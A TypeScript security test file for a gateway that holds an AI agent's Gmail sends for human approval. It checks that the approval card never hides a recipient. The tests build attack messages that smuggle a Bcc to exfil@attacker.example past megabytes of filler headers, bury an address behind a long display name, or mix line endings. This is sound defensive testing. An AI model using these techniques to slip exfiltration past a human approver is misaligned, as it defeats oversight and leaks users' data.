import { expect } from 'chai';
import { request } from 'undici';
import { startAttackWorld, type AttackWorld } from '../helpers/attack-fixture.js';
import { proxyAgent } from '../helpers/proxy-client.js';

/**
 * Issue 23, item 5 (security review): the approval card can hide a recipient. The agent
 * sends a Gmail message through the gateway; the send is held, and a person approves it by
 * what the console's card shows. The attack makes the card show less than Gmail will do:
 *  - a `Bcc` after ~300 KB of filler headers (the decoder read only the first 256 KiB of
 *    `raw` and did not say it cut);
 *  - a 500-character display name in front of the real `To` address (the header was one
 *    string cut at 500 characters, so the address fell off the card).
 * Each is read here from the card itself (the console page a team member sees) and from the
 * stored approval details, then denied: the upstream never sees the message.
 */
describe('security: the approval card never hides a recipient (issue 23, item 5)', function () {
  this.timeout(60_000);
  let w: AttackWorld;
  let cookie: string;

  before(async () => {
    w = await startAttackWorld({
      hosts: ['gmail.googleapis.com', 'www.googleapis.com'],
      secrets: { GMAIL: { value: 'ya29.real-gmail-token-hidden-bcc', allowed_hosts: ['gmail.googleapis.com', 'www.googleapis.com'] } },
    });
    const member = (await w.t.api.post('/v1/team-members', { email: 'approver@corp.example', name: 'Approver' })).body;
    const res = await fetch(`${w.t.url}${new URL(member.sign_in_url).pathname}`, { redirect: 'manual' });
    cookie = res.headers.getSetCookie().find((c) => c.startsWith('gw_console='))!.split(';')[0]!;
  });
  after(async () => w?.close());
  beforeEach(async () => w.mark());
  // A test that failed before denying leaves its send held: deny it, so the next test's card is its own.
  afterEach(async () => {
    for (const a of (await w.t.api.get(`/v1/approvals?status=pending&environment_id=${w.envId}`)).body.data) {
      await w.t.api.post(`/v1/approvals/${a.id}/decision`, { decision: 'deny' });
    }
  });

  const filler = (bytes: number) => `X-Filler: ${'f'.repeat(990)}\r\n`.repeat(Math.ceil(bytes / 1002));

  /** Sends as the agent would; resolves with the pending approval once the gateway holds it. */
  async function hold(path: string, body: string | Buffer, contentType: string, host = 'gmail.googleapis.com') {
    const sending = request(`https://${host}${path}`, {
      dispatcher: proxyAgent(w.gw), method: 'POST', body, headers: { authorization: `Bearer ${w.ph.GMAIL}`, 'content-type': contentType },
    });
    let approval: { id: string; category: string } | undefined;
    for (let i = 0; i < 500 && !approval; i++) {
      approval = (await w.t.api.get(`/v1/approvals?status=pending&environment_id=${w.envId}`)).body.data[0];
      if (!approval) await new Promise((r) => setTimeout(r, 10));
    }
    expect(approval, 'the send is held for approval').to.be.an('object');
    expect(approval!.category).to.equal('send');
    return { approval: approval!, sending };
  }

  /** The card of one approval on the console's approvals page, as HTML. */
  async function card(approvalId: string): Promise<string> {
    const html = await (await fetch(`${w.t.url}/console/approvals`, { headers: { cookie } })).text();
    const at = html.indexOf(`data-approval="${approvalId}"`);
    expect(at, 'the card is on the page').to.be.greaterThan(-1);
    return html.slice(at, html.indexOf('</form>', at));
  }

  async function deny(approvalId: string, sending: ReturnType<typeof request>): Promise<void> {
    expect((await w.t.api.post(`/v1/approvals/${approvalId}/decision`, { decision: 'deny' })).status).to.equal(200);
    const r = await sending;
    await r.body.text();
    expect([r.statusCode, r.headers['x-gateway-error']]).to.deep.equal([403, 'approval_denied']);
    expect(w.up.seen).to.have.length(0);
  }

  async function storedDetails(approvalId: string): Promise<{ fields: Array<{ label: string; addresses?: Array<{ address: string; name?: string }> }>; unreadable?: string }> {
    const row = await w.t.svc.db('approvals').where({ id: approvalId }).first();
    return JSON.parse(row.details);
  }

  it('attack: a Bcc after 300 KB of filler headers in messages.send is on the card', async () => {
    const message = `From: agent@corp.example\r\nTo: team@corp.example\r\n${filler(300_000)}Bcc: exfil@attacker.example\r\nSubject: weekly notes\r\n\r\nsee attached`;
    const { approval, sending } = await hold('/gmail/v1/users/me/messages/send', JSON.stringify({ raw: Buffer.from(message).toString('base64url') }), 'application/json');
    const html = await card(approval.id);
    expect(html).to.include('<dt>Bcc</dt><dd><div class="addr"><b>exfil@attacker.example</b></div></dd>');
    expect(html).to.include('<dt>To</dt><dd><div class="addr"><b>team@corp.example</b></div></dd>');
    expect(html).to.not.include('Could not show the content');
    const d = await storedDetails(approval.id);
    expect(d.fields.find((f) => f.label === 'Bcc')?.addresses).to.deep.equal([{ address: 'exfil@attacker.example' }]);
    await deny(approval.id, sending);
  });

  it('attack: a Bcc after 2 MB of filler headers in a media upload (past the 1 MiB scan buffer) is on the card', async () => {
    const message = `To: team@corp.example\r\n${filler(2_000_000)}Bcc: exfil@attacker.example\r\n\r\nbody`;
    const { approval, sending } = await hold('/upload/gmail/v1/users/me/messages/send?uploadType=media', Buffer.from(message), 'message/rfc822', 'www.googleapis.com');
    expect(await card(approval.id)).to.include('<dt>Bcc</dt><dd><div class="addr"><b>exfil@attacker.example</b></div></dd>');
    await deny(approval.id, sending);
  });

  it('attack: a 500-character display name does not push the To address off the card', async () => {
    const name = 'Alice from HR — payroll update '.repeat(17).slice(0, 500);
    const message = `To: "${name}" <bob@attacker.example>, ceo@corp.example\r\nSubject: payroll\r\n\r\nhi`;
    const { approval, sending } = await hold('/gmail/v1/users/me/messages/send', JSON.stringify({ raw: Buffer.from(message).toString('base64url') }), 'application/json');
    const html = await card(approval.id);
    expect(html.replace(/<[^>]*>/g, ''), 'the address is on the card at all').to.include('bob@attacker.example');
    // Each address on its own line, the address first and whole, the name after it and cut.
    expect(html).to.match(/<dt>To<\/dt><dd><div class="addr"><b>bob@attacker\.example<\/b> — “Alice from HR — payroll update [^<]*… \(420 more characters\)”<\/div><div class="addr"><b>ceo@corp\.example<\/b><\/div><\/dd>/);
    const d = await storedDetails(approval.id);
    expect(d.fields.find((f) => f.label === 'To')?.addresses?.map((a) => a.address)).to.deep.equal(['bob@attacker.example', 'ceo@corp.example']);
    await deny(approval.id, sending);
  });

  it('attack: 150 long To addresses before a Bcc: the Bcc is listed, the rest counted and said, and the card still fits its column', async () => {
    const to = Array.from({ length: 150 }, (_, i) => `"${'Colleague '.repeat(10)}" <${'l'.repeat(290)}${i}@corp.example>`).join(',\r\n ');
    const message = `To: ${to}\r\nBcc: exfil@attacker.example\r\n\r\nbody`;
    const { approval, sending } = await hold('/gmail/v1/users/me/messages/send', JSON.stringify({ raw: Buffer.from(message).toString('base64url') }), 'application/json');
    const html = await card(approval.id);
    expect(html).to.include('<dt>Bcc</dt><dd><div class="addr"><b>exfil@attacker.example</b></div></dd>');
    expect(html).to.match(/<div class="warn">… and \d+ more not shown<\/div><\/dd>/);
    expect(html).to.match(/Could not show the content: the message names 151 addresses; the card lists \d+ of them\./);
    const row = await w.t.svc.db('approvals').where({ id: approval.id }).first();
    expect(Buffer.byteLength(row.details)).to.be.lessThan(64 * 1024); // MySQL TEXT
    await deny(approval.id, sending);
  });

  it('attack: headers that cannot be read one way (CRLF and LF mixed before a Bcc): the card says it could not show them, and lists nothing', async () => {
    const message = 'To: team@corp.example\r\n\nBcc: exfil@attacker.example\r\n\r\nbody';
    const { approval, sending } = await hold('/gmail/v1/users/me/messages/send', JSON.stringify({ raw: Buffer.from(message).toString('base64url') }), 'application/json');
    const html = await card(approval.id);
    expect(html).to.include('<p class="warn">Could not show the content: the message headers mix CRLF and LF line ends. Approve only if you expect this request.</p>');
    expect(html).to.not.include('<dl class="details">');
    await deny(approval.id, sending);
  });
});
